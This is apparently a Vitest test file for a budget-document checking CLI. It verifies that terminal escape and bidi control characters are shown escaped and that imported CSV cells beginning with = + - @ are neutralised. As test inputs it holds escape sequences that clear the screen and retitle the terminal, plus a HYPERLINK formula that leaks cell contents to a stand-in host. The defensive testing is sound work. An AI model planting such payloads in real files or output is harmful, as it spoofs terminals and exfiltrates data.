import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../support/cli.js';
import { comparable } from '../support/compare.js';
import { checkPath } from '../support/fixtures.js';

const dir = mkdtempSync(join(tmpdir(), 'zjs-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Clear the screen, set the window title, ring, reverse the text that follows, an 8-bit CSI. */
const CONTROLS = '\u001b[2J\u001b]0;pwned\u0007\u202eevil\u009b31m';
/** CONTROLS as a workbook stores them: Excel writes a control character as _xHHHH_, and readers decode it. */
const IN_XLSX = '_x001B_[2J_x001B_]0;pwned_x0007_\u202eevil\u009b31m';
const SHOWN = '\\x1b[2J\\x1b]0;pwned\\x07\\u202eevil\\x9b31m';
/** A text with C0 controls is refused as binary; bidi and C1 controls pass the text reader. */
const TEXT_CONTROLS = '\u202eevil\u009b31m';
const TEXT_SHOWN = '\\u202eevil\\x9b31m';
const LABEL = '人力资源和社会保障管理事务';
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let text: string;
let workbook: string;

beforeAll(async () => {
  text = join(dir, 'hostile.txt');
  writeFileSync(text, readFileSync('fixtures/zhuzhou-hrss-2023.txt', 'utf8').replaceAll(LABEL, `${LABEL}${TEXT_CONTROLS}`));
  workbook = join(dir, 'hostile.xlsx');
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile('fixtures/zhuzhou-hrss-2023.xlsx');
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string' && cell.value.includes(LABEL)) cell.value = cell.value.replace(LABEL, `${LABEL}${IN_XLSX}`);
      }),
    );
  }
  await book.xlsx.writeFile(workbook);
});

describe('control characters from documents never reach a terminal or a CI log live', () => {
  it.each([
    ['a text', () => text, TEXT_SHOWN],
    ['a workbook', () => workbook, SHOWN],
  ])('text and github formats show them visibly (%s)', async (_name, path, shown) => {
    for (const format of ['text', 'github']) {
      // The label stands in table rows: their rounding notes carry it, shown one by one with --verbose.
      const r = await run(['check', path(), '-f', format, '--verbose']);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stdout, format).not.toMatch(RAW);
      // The text table wraps long cells, so only the annotation line keeps the whole label in one piece.
      if (format === 'github') expect(r.stdout).toContain(`${LABEL}${shown}`);
      else expect(r.stdout).toMatch(/\\(x9b|u202e)/);
    }
  });

  it('in colour, the text report keeps its own colours and no others', async () => {
    const r = await run(['check', workbook, '--quiet'], { isTTY: true });
    expect(r.stdout).toMatch(/\u001b\[\d+m/);
    expect(r.stdout).not.toContain('\u001b[2J');
    expect(r.stdout).not.toContain('\u0007');
  });

  it('the claims and explain listings and error lines show them too', async () => {
    const json = await run(['check', workbook, '-f', 'json']);
    expect(json.stdout).not.toMatch(RAW);
    // JSON keeps the data as it was, escaped: parsed, the message holds the characters themselves.
    expect((JSON.parse(json.stdout) as { documents: Array<{ findings: Array<{ message: string }> }> }).documents[0]?.findings.some((f) => f.message.includes(CONTROLS))).toBe(true);
    const claims = await run(['claims', workbook]);
    expect(claims.stdout).toContain(LABEL);
    expect(claims.stdout).not.toMatch(RAW);
    const explain = await run(['explain', workbook, '--rule', 'expense-rollup']);
    expect(explain.stdout).toContain(LABEL);
    expect(explain.stdout).not.toMatch(RAW);
    const missing = await run(['check', join(dir, `no${CONTROLS}.txt`)]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('no\\x1b[2J');
    expect(missing.stderr).not.toMatch(RAW);
  });
});

describe('zjs import writes no live formula into a CSV file', () => {
  const FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")';
  let source: string;

  beforeAll(() => {
    source = join(dir, 'formula-source');
    cpSync('fixtures/zhuzhou-hrss-2023-csv', source, { recursive: true });
    const expense = join(source, '03-支出决算表.csv');
    const lines = readFileSync(expense, 'utf8').split('\n');
    // A row no template knows, carried into the import as it is, and a note that starts with @ and +.
    const at = lines.findIndex((l) => l.startsWith('注：'));
    lines.splice(at, 0, `,"${FORMULA.replace(/"/g, '""')}",,,,,,\r`, `,@SUM(1+1),,,,,,\r`, `,-其中：调出,,,,,,\r`);
    lines[at + 3] = `+注：本表反映部门本年度各项支出情况。,,,,,,,\r`;
    // A negative amount stays a number.
    lines.splice(lines.findIndex((l) => l.startsWith('2050302,')), 1, '2050302,中等职业教育,-249.60,0.00,-249.60,0.00,0.00,0.00\r');
    writeFileSync(expense, lines.join('\n'));
  });

  it('prefixes cells that start with = + - @ and keeps negative numbers as numbers', async () => {
    const out = join(dir, 'formula-import');
    const r = await run(['import', source, '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(join(out, '03-支出决算表.csv'), 'utf8');
    const cells = csv.split('\r\n').flatMap((l) => l.split(','));
    expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'-其中：调出");
    expect(cells).toContain("'+注：本表反映部门本年度各项支出情况。");
    expect(csv).toContain('2050302,中等职业教育,-249.60,0.00,-249.60,');
    expect(cells.filter((c) => /^[=+@]/.test(c) || /^-\D/.test(c))).toEqual([]);
  });

  it('reads the imported folder back with the same findings as the source', async () => {
    const out = join(dir, 'formula-round');
    expect((await run(['import', source, '--out', out])).code).toBe(0);
    const before = await checkPath(source);
    const after = await checkPath(out);
    // The negative amount is read as one: 20503's items now sum to −249.60 + 370.40 = 120.80.
    expect(before.findings.some((f) => f.message.includes('各项合计 120.80'))).toBe(true);
    expect(after.findings.map(comparable)).toEqual(before.findings.map(comparable));
    expect(after.checks).toEqual(before.checks);
  });
});
